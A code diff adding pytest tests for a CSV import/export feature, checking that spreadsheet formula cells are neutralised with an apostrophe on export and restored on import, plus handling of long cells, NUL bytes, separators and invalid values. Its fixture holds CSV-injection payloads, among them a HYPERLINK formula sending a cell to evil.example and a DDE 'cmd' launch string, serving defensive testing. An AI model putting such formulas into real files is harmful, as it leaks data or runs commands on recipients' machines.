@@ -13,6 +13,14 @@ from accountdesk.core.db.models import Account, Contact
 from accountdesk.core.demo import generate
 from accountdesk.core.io.csv_io import COLUMNS, CsvImportError, export_csv, import_csv
 from accountdesk.core.queries.search import search
+from accountdesk.core.services.accounts import (
+    AccountInput,
+    ContactInput,
+    account_input,
+    contact_input,
+    create_account,
+    create_contact,
+)
 
 
 def _export(db: Database) -> str:
@@ -161,3 +169,164 @@ def test_checking_in_a_second_process_gives_the_same_result(
         import_csv(third, broken)
     assert f"Row {len(rows)}, column timezone" in str(info.value)
     assert _count(third, Account) == 0 and _count(third, Contact) == 0
+
+
+# --- formulas, long cells, delimiters ---------------------------------------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "notes": "=cmd|' /C calc'!A0",
+    "tier": "+SUM(1)",
+    "owner": "@SUM(1+1)",
+    "industry": "-2+3",
+    "city": "'=already quoted",
+    "address": "''=twice\nsecond line",
+}
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_formula_cells_are_neutralised_and_the_import_gives_them_back(
+    db: Database, tmp_path: Path
+) -> None:
+    account_id = create_account(db, AccountInput(country="LV", tags=["=1+1", "plain"], **FORMULAS))
+    contact_id = create_contact(
+        db,
+        ContactInput(
+            account_id=account_id,
+            given_name="@Ilze",
+            family_name="-Bērziņa",
+            country="LV",
+            phones=["+371 2612 3456"],
+            personal_notes="\tindented",
+        ),
+    )
+    exported = _export(db)
+    row = _rows(exported)[0]
+    assert row["account_name"] == "'" + FORMULAS["name"]
+    assert row["account_notes"] == "'" + FORMULAS["notes"]
+    assert row["account_tier"] == "'+SUM(1)"
+    assert row["account_owner"] == "'@SUM(1+1)"
+    assert row["account_industry"] == "'-2+3"
+    assert row["account_city"] == "''=already quoted"
+    assert row["account_address"] == "'''=twice\nsecond line"
+    assert row["account_tags"] == "'=1+1; plain"
+    assert row["given_name"] == "'@Ilze"
+    assert row["family_name"] == "'-Bērziņa"
+    # Phones are not exempt: the cell starts with its label, so it needs no mark.
+    assert row["phones"] == "work:+37126123456"
+    # No cell of the file starts with a formula character any more.
+    for cell in (c for r in csv.reader(io.StringIO(exported)) for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+    raw = io.StringIO()
+    export_csv(db, raw, raw=True)
+    raw_row = _rows(raw.getvalue())[0]
+    assert raw_row["account_name"] == FORMULAS["name"]
+    assert raw_row["account_city"] == "'=already quoted"
+
+    path = tmp_path / "formulas.csv"
+    path.write_text(exported, encoding="utf-8")
+    other = open_database(tmp_path / "other.db")
+    import_csv(other, path)
+    back = account_input(other, account_id)
+    for key, value in FORMULAS.items():
+        assert getattr(back, key) == value, key
+    assert sorted(back.tags) == ["=1+1", "plain"]
+    person = contact_input(other, contact_id)
+    assert (person.given_name, person.family_name) == ("@Ilze", "-Bērziņa")
+    assert person.phones == [("work", "+37126123456")]
+    assert _export(other) == exported
+
+
+def test_phone_numbers_of_other_programs_survive_with_or_without_the_text_mark(
+    db: Database, tmp_path: Path
+) -> None:
+    path = _write(
+        tmp_path / "sheet.csv",
+        ["Company", "Country", "First Name", "Mobile Phone"],
+        [
+            ["Dzintars", "LV", "Ilze", "+371 2612 3456"],
+            ["Dzintars", "LV", "Anna", "'+37126123457"],
+        ],
+    )
+    import_csv(db, path)
+    phones = {r["given_name"]: r["phones"] for r in _rows(_export(db))}
+    assert phones == {"Ilze": "work:+37126123456", "Anna": "work:+37126123457"}
+
+
+def test_a_cell_longer_than_the_csv_modules_default_limit_survives(
+    db: Database, tmp_path: Path
+) -> None:
+    from accountdesk.core import validation as v
+
+    longest = "=" + "ü" * (v.MAX_LENGTHS["notes"] - 1)  # the longest note, and it needs a '
+    account_id = create_account(db, AccountInput(name="Long", country="LV", notes=longest))
+    path = tmp_path / "long.csv"
+    path.write_text(_export(db), encoding="utf-8")
+    other = open_database(tmp_path / "other.db")
+    import_csv(other, path)
+    assert account_input(other, account_id).notes == longest
+
+
+def test_a_nul_in_a_cell_is_refused_with_row_and_column(db: Database, tmp_path: Path) -> None:
+    rows = [[f"Account {i}", "LV", "Ilze"] for i in range(300)]  # past the binary-file sniff
+    rows[250][2] = "Il\x00ze"
+    path = _write(tmp_path / "nul.csv", ["account_name", "account_country", "given_name"], rows)
+    with pytest.raises(CsvImportError) as info:
+        import_csv(db, path)
+    assert "Row 252, column given_name" in str(info.value)
+    assert "Il\\u0000ze" in str(info.value)
+    assert _count(db, Account) == 0
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_the_separator_is_read_from_the_header_and_quotes_are_always_double(
+    db: Database, tmp_path: Path, delimiter: str
+) -> None:
+    # Cells that begin and end with ' made csv.Sniffer take ' for the quote character.
+    path = tmp_path / "quotes.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, delimiter=delimiter)
+        writer.writerow(["account_name", "account_country", "account_notes", "account_tier"])
+        writer.writerow(["'=x'", "LV", "it's 'fine' really", "'b'"])
+        writer.writerow(["O'Brien's", "IE", "'", "a'"])
+    import_csv(db, path)
+    assert {h.title for h in search(db, "brien")} == {"O'Brien's"}
+    # The export shows the stored name =x' with its mark again.
+    rows = {r["account_name"]: r for r in _rows(_export(db))}
+    assert set(rows) == {"'=x'", "O'Brien's"}
+    assert rows["'=x'"]["account_notes"] == "it's 'fine' really"
+    assert rows["'=x'"]["account_tier"] == "'b'"
+    assert rows["O'Brien's"]["account_notes"] == "'"
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "needle"),
+    [
+        ("tags", "ok; bad,tag", "cannot contain , or ;"),
+        ("account_tags", "\u202egold", "direction control character (U+202E)"),
+        ("personal_notes", "fine\x1bnot", "control character (U+001B)"),
+        ("given_name", "\u200b", "only invisible characters"),
+        ("timezone", "Factory", "place's time zone"),
+        ("phones", "1-800-FLOWERS", "letters"),
+        ("consent_withdrawn_on", "2024-01-01", "before the consent was given"),
+    ],
+)
+def test_refused_values_name_their_column(
+    db: Database, tmp_path: Path, column: str, value: str, needle: str
+) -> None:
+    header = ["account_name", "account_country", "given_name", "consent_given_on", column]
+    good = ["Dzintars", "LV", "Ilze", "2025-05-01", ""]
+    bad = ["Ābele", "LV", "Jānis", "2025-05-01", value]  # another account: its cells are read
+    if column == "given_name":
+        header, good, bad = header[:-1], good[:-1], ["Ābele", "LV", value, "2025-05-01"]
+    path = _write(tmp_path / "bad.csv", header, [good, bad])
+    with pytest.raises(CsvImportError) as info:
+        import_csv(db, path)
+    message = str(info.value)
+    assert f"Row 3, column {column}:" in message
+    assert needle in message
+    assert _count(db, Contact) == 0
